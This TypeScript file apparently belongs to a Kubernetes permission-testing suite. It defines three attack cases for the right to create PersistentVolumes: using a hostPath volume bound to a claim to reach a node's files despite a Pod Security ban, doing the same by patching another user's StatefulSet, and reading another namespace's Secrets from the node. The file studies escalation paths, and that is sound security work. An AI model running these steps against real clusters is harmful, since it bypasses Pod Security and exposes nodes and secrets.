import { pathOf, waitFor } from "../../control-plane/act.ts";
import type { Stored } from "../../control-plane/story.ts";
import { ACCEPTED, type Attack } from "./attack.ts";
import { changeVolumes, standsThere, VICTIM } from "./controllers-patch-node.ts";
import { standing } from "./controllers.ts";
import { harmless } from "./kubelet.ts";
import { HOST_PATH, lookAround, settle, VIEW } from "./neighbour.ts";
import { enforce, podSecurity } from "./psa.ts";
import { fresh, type Stage } from "./stage.ts";

/** The one kind whose pods have names that are known before. */
const STATEFUL_SET = standing.find(({ kind }) => kind === "StatefulSet")!;

const CAPACITY = { storage: "1Gi" };
const CLAIM = { accessModes: ["ReadWriteOnce"], storageClassName: "" };

/** Creates, as the attacker, a volume of a node's path for a claim of that name, and returns a pod's volume that claims it. */
async function claimed(stage: Stage, name: string, claim: string): Promise<Stored> {
  const claimRef = { namespace: stage.namespace, name: claim };
  const body = { metadata: { name }, spec: { ...CLAIM, capacity: CAPACITY, ...HOST_PATH, claimRef } };
  await stage.send("POST", "/api/v1/persistentvolumes", body);
  const spec = { ...CLAIM, resources: { requests: CAPACITY }, volumeName: name };
  return { name: "node", ephemeral: { volumeClaimTemplate: { spec } } };
}

/** The attacker may make no claims: a controller makes this one, of the pod's volume. */
async function isClaimed({ plane, namespace }: Stage, claim: string, volume: string): Promise<string> {
  await waitFor("the claim", async () => {
    const path = `/api/v1/namespaces/${namespace}/persistentvolumeclaims/${claim}`;
    const { status, body } = await plane.request("GET", path);
    return status === 200 && body.spec.volumeName === volume;
  });
  return ACCEPTED;
}

async function forbidden(stage: Stage): Promise<void> {
  await enforce(stage, "baseline");
  await podSecurity(stage, "refuses");
}

export const attacks: Attack[] = [
  {
    edge: "persistentvolumes-create",
    how: "a pod that sees the files of its node by a volume, where Pod Security forbids it the hostPath",
    accepted: true,
    rights: (stage) => [stage.everywhere("create", "persistentvolumes"), stage.here("create", "pods")],
    arrange: forbidden,
    attack: async (stage) => {
      const name = fresh("node-files");
      const claim = `${name}-node`;
      const volumes = [await claimed(stage, name, claim)];
      const spec = harmless(stage, { volumes });
      await stage.send("POST", pathOf("Pod", stage.namespace), { metadata: { name }, spec });
      return isClaimed(stage, claim, name);
    },
  },
  {
    edge: "persistentvolumes-create",
    how: "the same by the pod of somebody else's StatefulSet, whose template is changed",
    accepted: true,
    rights: (stage) => [
      stage.everywhere("create", "persistentvolumes"),
      stage.here("patch", STATEFUL_SET.resource, VICTIM),
    ],
    arrange: async (stage) => {
      await forbidden(stage);
      await standsThere(stage, STATEFUL_SET);
    },
    attack: async (stage) => {
      const name = fresh("node-files");
      const claim = `${VICTIM}-0-node`;
      await changeVolumes(stage, STATEFUL_SET, [await claimed(stage, name, claim)]);
      return isClaimed(stage, claim, name);
    },
  },
  {
    edge: "persistentvolumes-create",
    how: "by such a pod, a Secret's volume of another namespace's pod",
    onRealNode: true,
    rights: (stage) => [stage.everywhere("create", "persistentvolumes"), stage.here("create", "pods")],
    arrange: async (stage) => {
      await settle(stage, stage.next);
      await forbidden(stage);
    },
    attack: async (stage) => {
      const pod = fresh("intruder");
      const volumes = [await claimed(stage, fresh("node-files"), `${pod}-node`)];
      return lookAround(stage, "secrets", { container: VIEW, pod: { volumes } }, pod);
    },
  },
];
